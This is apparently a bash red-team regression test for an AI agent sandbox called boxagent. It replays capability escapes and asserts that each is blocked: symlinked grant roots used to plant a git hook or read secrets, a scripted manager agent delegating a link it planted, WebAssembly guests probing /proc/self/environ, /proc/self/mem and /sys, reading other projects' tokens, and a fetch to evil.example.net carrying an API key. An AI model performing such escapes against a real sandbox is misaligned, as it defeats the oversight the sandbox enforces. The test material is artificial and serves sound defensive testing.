#!/usr/bin/env bash
# redteam_caps.sh — capability holes found by the red team, each performed as the attacker did
# and asserted stopped: grant roots reached through symlinks (write_file into .git/hooks, a
# read grant that is a link to a secret directory, a manager delegating a link it planted),
# a WebAssembly guest with read:/ or write:/ reaching boxagent's own /proc (environ, mem) or
# /dev, other .boxagent/ directories, secrets in the audit rule, absurd limit values.
. "$(dirname "$0")/../redteam/lib.sh"
OP=$RT_GUESTS/op.wasm

# ---- 1. grant roots through symlinks (WASI host and built-in tools)
WS=$T/ws
mkdir -p "$WS/.boxagent" "$WS/.git/hooks" "$T/secretdir" "$T/victim"
echo "TOP-SECRET-1" >"$T/secretdir/secret.txt"
ln -s .git/hooks "$WS/hk"
ln -s "$T/secretdir" "$WS/docs"
run o e rc "$BA" tool call write_file --access workspace-write --workspace "$WS" --cap write:./hk \
  --args '{"path":"hk/pre-commit","content":"#!/bin/sh\necho pwned\n"}'
check "write_file through a symlinked grant root does not plant a git hook" \
  [ ! -e "$WS/.git/hooks/pre-commit" ]
check "…and the call fails" [ "$rc" != 0 ] || has "error\|denied\|refused\|not" "$o$e"
check "no sanitizer report (write_file)" clean
run o e rc "$BA" tool call read_file --workspace "$WS" --cap read:./docs \
  --args '{"path":"docs/secret.txt"}'
check "read_file through a symlinked grant root does not read the target" hasnt TOP-SECRET-1 "$o$e"
run o e rc "$BA" tool call list_dir --workspace "$WS" --cap read:./docs --args '{"path":"docs"}'
check "list_dir through a symlinked grant root lists nothing of the target" hasnt secret.txt "$o"
cd "$WS" || exit 1
run o e rc "$BA" run-wasm --cap "write:$WS/hk" "$OP" 3 write pre-commit evil
cd - >/dev/null || exit 1
check "guest write through a symlinked grant root refused" [ ! -e "$WS/.git/hooks/pre-commit" ]
check "…with a reason naming the symbolic link" has "symbolic link" "$o$e"
# an ordinary (real) grant root still works
mkdir -p "$WS/real"
run o e rc "$BA" tool call write_file --access workspace-write --workspace "$WS" --cap write:./real \
  --args '{"path":"real/ok.txt","content":"fine"}'
check "write_file under a real grant root still works" [ "$(cat "$WS/real/ok.txt" 2>/dev/null)" = fine ]

# ---- 1b. manager plants a link and delegates it (F10)
M=$T/m10
mkdir -p "$M/.boxagent"
cat >"$T/mgr.txt" <<EOS
turn
call bash {"command":"ln -s $T/victim out"}
turn
call delegate {"tasks":[{"name":"w","instructions":"x","access":"workspace-write","capabilities":["write:out"],"model":"script/$T/exe.txt"}]}
turn
say done
EOS
printf 'turn\ncall write_file {"path":"out/owned.txt","content":"outside"}\nturn\nsay ok\n' >"$T/exe.txt"
cat >"$M/.boxagent/config.json" <<EOS
{"default_agent":"boss","agents":{"boss":{"model":"script/$T/mgr.txt","access":"full","capabilities":["write:.","exec:bash"],"manager":true,"max_depth":1}}}
EOS
run o e rc "$BA" run --workspace "$M" go
check "executor cannot write through a link its manager planted" [ ! -e "$T/victim/owned.txt" ]
check "no sanitizer report (managed)" clean

# ---- 2. /proc, /sys, /dev from a guest with read:/ or write:/
cd "$T" || exit 1
run o e rc env RT_SECRET=sk-redteam-caps-4 "$BA" run-wasm --cap read:/ "$OP" 3 read proc/self/environ
check "read:/ guest cannot read boxagent's /proc/self/environ" hasnt "READ(" "$o"
check "…nor its secret" hasnt sk-redteam-caps-4 "$o"
check "…refused with a reason" has "pseudo file system\|/proc" "$o$e"
run o e rc "$BA" run-wasm --cap write:/ "$OP" 3 write proc/self/mem AAAAAAAA
check "write:/ guest cannot open /proc/self/mem for writing" [ "$rc" != 0 ] && clean
run o e rc "$BA" run-wasm --cap read:/ "$OP" 3 ls proc
check "read:/ guest cannot list /proc" hasnt "self" "$o"
run o e rc "$BA" run-wasm --cap read:/ "$OP" 3 ls sys/kernel
check "read:/ guest cannot list /sys" hasnt "debug\|mm" "$o"
run o e rc "$BA" run-wasm --cap read:/ "$OP" 3 read dev/zero
check "read:/ guest cannot open /dev nodes" [ "$rc" != 0 ]
ln -s /proc "$T/procl"
rel=$(printf '%s' "$T" | sed 's#/[^/]*#../#g')proc   # relative: stays beneath "/"
ln -s "$rel" "$T/procr"
run o e rc env RT_SECRET=sk-redteam-caps-4b "$BA" run-wasm --cap read:/ "$OP" 3 readf "${T#/}/procr/self/environ"
check "a symlink to /proc inside read:/ is refused too (fstatfs)" hasnt "READ(" "$o"
run o e rc "$BA" run-wasm --cap "read:$T/procl" "$OP" 3 read self/environ
check "a grant root that is a link to /proc is refused" [ "$rc" != 0 ]
run o e rc "$BA" run-wasm --cap read:/ "$OP" 3 read etc/hostname
check "read:/ still reads ordinary files" has "READ(" "$o"
cd - >/dev/null || exit 1

# ---- 3. any .boxagent directory
O=$T/other
mkdir -p "$O/.boxagent" "$T/ws11"
echo TOK-OTHER >"$O/.boxagent/token"
run o e rc "$BA" tool call write_file --access workspace-write --workspace "$T/ws11" --cap "write:$T" \
  --args "{\"path\":\"$O/.boxagent/config.json\",\"content\":\"{}\"}"
check "another project's .boxagent is not writable" [ ! -e "$O/.boxagent/config.json" ]
run o e rc "$BA" tool call read_file --workspace "$T/ws11" --cap "read:$T" \
  --args "{\"path\":\"$O/.boxagent/token\"}"
check "another project's .boxagent is not readable" hasnt TOK-OTHER "$o"
mkdir -p "$T/ws11/sub"
run o e rc "$BA" run-wasm --cap "write:$T" "$OP" 3 mkdir ws11/sub/.boxagent
check "a guest cannot create a nested .boxagent" [ ! -e "$T/ws11/sub/.boxagent" ]
run o e rc "$BA" run-wasm --cap "read:$T" "$OP" 3 read other/.boxagent/token
check "a guest cannot read another .boxagent" hasnt TOK-OTHER "$o"

# ---- 5. secrets in the audit rule
W5=$T/ws5
mkdir -p "$W5"
run o e rc "$BA" tool call web_fetch --workspace "$W5" --cap fetch:https://api.example.com \
  --args '{"url":"https://evil.example.net/x?api_key=sk-proj-REDTEAMCAPS5REDTEAMCAPS5"}'
run o e rc "$BA" audit list --workspace "$W5"
check "audit has the denied call" has "web_fetch" "$o"
check "the audit rule does not keep the key" hasnt "REDTEAMCAPS5" "$o"

# ---- 6. absurd limits are refused, not wrapped
for lim in timeout=18446744073709551615 fuel=18446744073709551615 timeout=200h output=5G; do
  run o e rc "$BA" run-wasm --cap read:. --cap "$lim" "$OP" 3 stat .
  check "limit $lim refused with an error" has "too large" "$o$e"
done

finish
